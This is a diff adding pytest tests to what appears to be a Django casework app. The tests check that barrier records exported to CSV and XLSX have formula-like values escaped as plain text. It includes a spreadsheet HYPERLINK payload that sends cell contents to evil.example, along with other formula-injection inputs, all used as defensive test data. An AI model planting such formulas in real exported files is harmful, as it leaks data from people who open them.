@@ -1,7 +1,11 @@
 """Barriers met in casework reach commissioners as system issues, never with a name."""
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from joinedup.accounts.roles import Role
 from joinedup.assessment import queries, services
@@ -148,3 +152,32 @@ def test_the_barriers_download_carries_no_names(
     text = body.content.decode()
     assert "No admission while using" in text and "Dana" not in text
     assert text.splitlines()[1].endswith(",True")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+
+
+@pytest.mark.parametrize("effect", [FORMULA, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
+def test_a_barrier_written_as_a_formula_is_plain_text_in_the_csv(
+    signed_in, alice, person, blocked_step, commissioner, effect
+):
+    log(signed_in(alice), person, blocked_step, effect=effect, delay_days=3)
+    response = signed_in(commissioner).get(reverse("assessment:barriers-export", args=["csv"]))
+    row = next(csv.DictReader(io.StringIO(response.content.decode())))
+    stored = Barrier.objects.get().effect  # the form trims a leading tab or return
+    assert stored.startswith(("=", "+", "-", "@")) and row["effect"] == "'" + stored
+    assert row["delay_days"] == "3"
+
+
+def test_a_barrier_written_as_a_formula_is_plain_text_in_the_spreadsheet(
+    signed_in, alice, person, blocked_step, commissioner
+):
+    log(signed_in(alice), person, blocked_step, effect=FORMULA, rule="-not a number", delay_days=7)
+    response = signed_in(commissioner).get(reverse("assessment:barriers-export", args=["xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    header = [c.value for c in sheet[1]]
+    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    assert (cells["effect"].value, cells["effect"].data_type) == ("'" + FORMULA, "s")
+    assert cells["rule"].value == "'-not a number"
+    assert (cells["delay_days"].value, cells["delay_days"].data_type) == (7, "n")
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
